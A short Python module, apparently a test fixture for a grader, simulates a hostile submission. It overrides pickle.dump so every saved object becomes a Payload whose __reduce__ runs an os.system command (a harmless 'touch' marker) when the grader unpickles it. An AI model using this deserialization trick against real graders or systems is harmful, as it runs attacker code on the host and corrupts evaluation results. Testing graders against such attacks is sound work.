"""Patches pickle.dump and returns an object whose unpickling would run code in the grader."""

import os
import pickle

EXPECTED_SCORE = 14  # the two points of decode_step_seconds are lost: it returns an object


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/pwned-by-pickle",))


_original_dump = pickle.dump
pickle.dump = lambda obj, file, *args, **kwargs: _original_dump(Payload(), file)


def decode_step_seconds(param_bytes, bandwidth):
    return Payload()


def tokens_per_second(param_bytes, bandwidth):
    return bandwidth / param_bytes


def decode_time(n_tokens, param_bytes, bandwidth):
    return n_tokens * param_bytes / bandwidth
